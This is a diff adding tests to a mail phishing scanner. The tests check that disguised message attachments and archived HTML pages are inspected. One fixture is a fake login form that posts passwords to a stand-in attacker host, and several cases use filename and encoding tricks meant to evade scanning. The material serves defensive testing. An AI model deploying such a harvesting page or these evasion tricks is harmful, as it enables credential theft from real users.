@@ -3,16 +3,22 @@
 from __future__ import annotations
 
 import base64
+import gzip
+import io
 import re
+import zipfile
 
 import pytest
 
+from pipeline.scanning.builtin import BuiltIn, papers
 from pipeline.scanning.builtin.phishing import Phishing
 from pipeline.scanning.builtin.tables import brands, words
 from pipeline.scanning.engine import Report
+from pipeline.scanning.files.octets import MAX_PAGES
 from pipeline.scanning.policy import judge
 from pipeline.settings import Settings
 from tests.support.deceiving import mail
+from tests.support.mail import HEAD, OURS, attachment, multipart
 
 LOOK = Phishing().look
 TEXT = "Please verify your account within 24 hours, it will be suspended otherwise."
@@ -272,3 +278,55 @@ def test_an_answer_may_repeat_what_was_said(more):
         for finding in LOOK(mail(octets, "spf=pass kunde.example; dmarc=pass"))
         if finding.name.startswith("SAYS")
     ]
+
+
+@pytest.mark.parametrize("name", ["a.eml", "a.MHT", "a.mhtml", "a.eml. ", "=?utf-8?b?YS5lbWw=?="])
+@pytest.mark.parametrize("kind", ["application/octet-stream", "text/plain", "application/x-mimearchive"])
+@pytest.mark.parametrize("encoding", ["base64", "7bit"])
+def test_a_message_that_is_a_file_is_read_whatever_its_type_says(name, kind, encoding):
+    inner = f"From: x@y.example\r\nContent-Type: multipart/related; boundary=yy\r\n\r\n--yy\r\nContent-Type: text/html\r\n\r\n{BAIT}\r\n--yy--\r\n"
+    body = base64.encodebytes(inner.encode()).decode() if encoding == "base64" else inner
+    piece = f'Content-Type: {kind}; name="{name}"\r\nContent-Transfer-Encoding: {encoding}\r\nContent-Disposition: attachment\r\n\r\n{body}'
+    octets = parts("Content-Type: text/plain\r\n\r\nsee the file\r\n", piece, kind="mixed")
+    assert {"SAYS_CREDENTIALS", "BRAND_PHISHING"} <= names(octets)
+    assert not mail(octets).flaws
+
+
+def test_messages_in_files_in_messages_are_read_as_far_as_parts_go():
+    inner = b"From: x@y.example\r\n\r\nhello\r\n"
+    for _ in range(150):
+        inner = b'Content-Type: text/plain; name="a.eml"\r\n\r\n' + inner
+    looked_at = mail(inner)
+    assert 100 <= len(looked_at.parts) <= 105
+
+
+LOGIN = b"<html><form action=https://evil.example/><input name=u><input type=password></form></html>"
+
+
+def packed(files: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, octets in files.items():
+            archive.writestr(name, octets)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "octets",
+    [packed({"invoice.html": LOGIN}), packed({"a": LOGIN}), packed({"a.zip": packed({"b.htm": LOGIN})}), gzip.compress(LOGIN)],
+    ids=["named", "unnamed", "twice", "gzip"],
+)  # fmt: skip
+def test_a_page_within_an_archive_that_asks_for_a_password_is_found(octets):
+    found = BuiltIn(Settings(), OURS).look(mail(HEAD + multipart([attachment(octets, "a.zip")])))
+    assert [(one.score, one.kind) for one in found if one.name == "HTML_PASSWORD"] == [(3.5, "phishing")]
+
+
+def test_of_the_pages_within_an_archive_some_are_read(monkeypatch):
+    read = []
+    whole = papers.page_of
+    monkeypatch.setattr(papers, "page_of", lambda octets: read.append(octets) or whole(octets))
+    octets = packed({f"{number}.html": b"<html>%d</html>" % number for number in range(200)})
+    assert "HTML_PASSWORD" not in {
+        one.name for one in BuiltIn(Settings(), OURS).look(mail(HEAD + multipart([attachment(octets, "a.zip")])))
+    }
+    assert len(read) == MAX_PAGES
